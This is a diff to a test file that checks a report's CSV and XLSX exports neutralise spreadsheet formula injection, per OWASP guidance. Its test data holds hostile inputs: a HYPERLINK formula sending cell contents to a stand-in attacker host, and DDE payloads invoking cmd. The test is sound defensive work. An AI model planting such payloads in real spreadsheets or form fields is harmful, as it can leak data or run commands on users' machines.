@@ -9,7 +9,8 @@ import { ok as paOk, Q } from './prestatieafspraak.helpers';
  * Issue 10.5 end to end: hostile text typed into a prestatieafspraak (its title and the
  * omschrijving of its afspraken) reaches a real quarterly report's CSV and XLSX neutralised, as
  * OWASP's CSV Injection page asks (https://owasp.org/www-community/attacks/CSV_Injection):
- * no cell starts with =, +, -, @, tab, CR or LF, and a value starting with `"` is escaped.
+ * in the CSV no cell starts with =, +, -, @, tab, CR or LF, and a value starting with `"` is escaped;
+ * in the XLSX such a text is a string cell in the Text format, shown as typed (no apostrophe).
  */
 const TITEL = '=HYPERLINK("https://aanvaller.example/?"&A1;"Klik hier")';
 const OMSCHRIJVINGEN = [
@@ -121,30 +122,35 @@ describe('safe exports: formulas from user text are neutralised in a real report
     expect(gevaarlijk).toEqual([]);
   });
 
-  it('XLSX: the same text cells neutralised; a negative figure stays a number', async () => {
+  it('XLSX: the same text cells as typed (no apostrophe), string cells marked Text; a negative figure stays a number', async () => {
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load((await download('XLSX')) as unknown as ArrayBuffer);
     const tekst: string[] = [];
     const getallen: number[] = [];
+    const formuleAchtig: { waarde: string; numFmt: string | undefined; type: ExcelJS.ValueType }[] = [];
     wb.eachSheet((ws) =>
       ws.eachRow((row) =>
         row.eachCell((cel) => {
           if (typeof cel.value === 'string') tekst.push(cel.value);
           if (typeof cel.value === 'number') getallen.push(cel.value);
           expect(cel.type).not.toBe(ExcelJS.ValueType.Formula);
+          if (
+            typeof cel.value === 'string' &&
+            /^[=+\-@\t\r\n]/.test(cel.value) &&
+            !/^[+-][\d.,]+%?$/.test(cel.value)
+          )
+            formuleAchtig.push({ waarde: cel.value, numFmt: cel.numFmt, type: cel.type });
         }),
       ),
     );
-    expect(tekst).toEqual(
-      expect.arrayContaining([
-        `'${TITEL}`,
-        "'+cmd|' /C calc'!A0",
-        "'@SUM(1+9)*cmd|x",
-        "'-2+3+cmd|x",
-        '"Aanhalingsteken; =1+2" en verder',
-      ]),
-    );
-    expect(tekst.filter((c) => /^[=+\-@\t\r\n]/.test(c))).toEqual([]);
+    expect(tekst).toEqual(expect.arrayContaining([TITEL, ...OMSCHRIJVINGEN]));
+    // no apostrophe shows (exceljs cannot write Excel's hidden quotePrefix) ...
+    expect(tekst.filter((c) => c.startsWith("'"))).toEqual([]);
+    // ... and every text that looks like a formula is a string cell in the Text format, so
+    // opening the file never runs it and editing the cell keeps it text
+    expect(formuleAchtig.length).toBeGreaterThanOrEqual(4);
+    for (const c of formuleAchtig)
+      expect(c).toEqual({ waarde: c.waarde, numFmt: '@', type: ExcelJS.ValueType.String });
     // the unmet statushouders taakstelling: Saldo is a negative number cell, not text
     const sh = wb.getWorksheet('Statushouders')!;
     const kop = (sh.getRow(1).values as string[]).indexOf('Saldo');
